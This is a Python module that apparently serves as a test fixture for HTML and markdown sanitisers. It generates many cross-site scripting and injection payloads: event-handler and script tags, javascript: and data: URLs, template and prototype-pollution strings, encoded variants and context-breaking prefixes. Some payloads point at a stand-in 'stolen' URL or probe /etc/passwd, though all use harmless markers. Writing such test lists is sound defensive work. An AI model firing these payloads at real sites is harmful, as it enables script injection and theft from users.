"""Hostile words: what has run as code in other people's pages. Each says `RAN` if it ever runs."""

from collections.abc import Iterator

RUN = "window.RAN=1"
AWAY = "https://example.com/stolen"

HANDLERS = (
    "<img src=x onerror={run}>", "<svg onload={run}>", "<svg/onload={run}//", "<body onload={run}>",
    "<video><source onerror={run}></video>", "<audio src=x onerror={run}>", "<details open ontoggle={run}>",
    "<input autofocus onfocus={run}>", "<select autofocus onfocus={run}>", "<marquee onstart={run}>",
    "<iframe onload={run}></iframe>", "<object data=x onerror={run}>", "<style onload={run}></style>",
    "<link rel=stylesheet href=x onerror={run}>", "<svg><animate onbegin={run} attributeName=x dur=1s>",
    "<math><mi onclick={run}>x</mi></math>", "<div style=animation-name:x onanimationstart={run}>",
    "<form><button formaction=javascript:{run}>x</button></form>", "<isindex action=javascript:{run}>",
    "<img src=x:x onerror={run}>", "<video src=x onerror={run}>", "<textarea autofocus onfocus={run}>",
)  # fmt: skip
TAGS = (
    "<script>{run}</script>", "<ScRiPt>{run}</sCrIpT>", "<script src={away}></script>", "<script>{run}//",
    "<svg><script>{run}</script></svg>", "<iframe src=javascript:{run}></iframe>",
    "<iframe srcdoc='<script>parent.RAN=1</script>'></iframe>", "<embed src=javascript:{run}>",
    "<object data='data:text/html,<script>parent.RAN=1</script>'></object>", "<base href={away}>",
    "<meta http-equiv=refresh content='0;url={away}'>", "<link rel=prefetch href={away}>", "<img src={away}>",
    "<style>@import '{away}';</style>", "<div style=\"background:url('{away}')\">x</div>",
    "<a href=javascript:{run}>click</a>", "<form action={away}><input name=x></form>",
    "<math><maction actiontype=statusline xlink:href=javascript:{run}>x</maction></math>",
    "<noscript><p title='</noscript><img src=x onerror={run}>'>", "<template><script>{run}</script></template>",
)  # fmt: skip
BREAKS = ("{0}", '">{0}', "'>{0}", "</textarea>{0}", "</title>{0}", "--&gt;{0}", "]]>{0}")
OTHERS = (
    "javascript:{run}", "JaVaScRiPt:{run}", "java\tscript:{run}", "data:text/html,<script>{run}</script>",
    "[click](javascript:{run})", "![x]({away})", "[x]: javascript:{run}", "<javascript:{run}>",
    "`<script>{run}</script>`",
    "{{{{constructor.constructor('{run}')()}}}}", "${{{run}}}", "#{{{run}}}", "<%= {run} %>", "{{{{7*7}}}}",
    "&lt;script&gt;{run}&lt;/script&gt;", "&#60;script&#62;{run}&#60;/script&#62;", "\\u003cscript\\u003e{run}",
    "%3Cscript%3E{run}%3C/script%3E", '"onmouseover="{run}', "' autofocus onfocus='{run}", "https://x'onclick='{run}",
    'http://example.com/"onmouseover="{run}', '{{"__proto__":{{"RAN":1}}}}', "__proto__", "constructor", "toString",
    "{{{{t('x')}}}}", "$t(key)", "<0>{run}</0>", "<Trans>{run}</Trans>", "vbscript:msgbox(1)", "file:///etc/passwd",
    "//example.com/stolen", "https://example.com@127.0.0.1/", "mailto:x?body=<script>{run}</script>",
    "\u2066<script>{run}</script>\u2069", "<\uff53cript>{run}</\uff53cript>", "a\u0301" * 300, "😀" * 200,
    "<xss style=display:block>x</xss>", "<!--<img src=x onerror={run}>-->", "<![CDATA[<script>{run}</script>]]>",
    "<x onclick={run}>x</x>", "<plaintext>", "<xmp><script>{run}</script></xmp>", "</script><script>{run}</script>",
)  # fmt: skip


def payloads() -> Iterator[str]:
    """All of them, each another."""
    for number, shape in enumerate((*HANDLERS, *TAGS)):
        for brk in (BREAKS[0], BREAKS[1 + number % (len(BREAKS) - 1)]):
            yield brk.format(shape.format(run=RUN, away=AWAY))
    for shape in OTHERS:
        yield shape.format(run=RUN, away=AWAY)
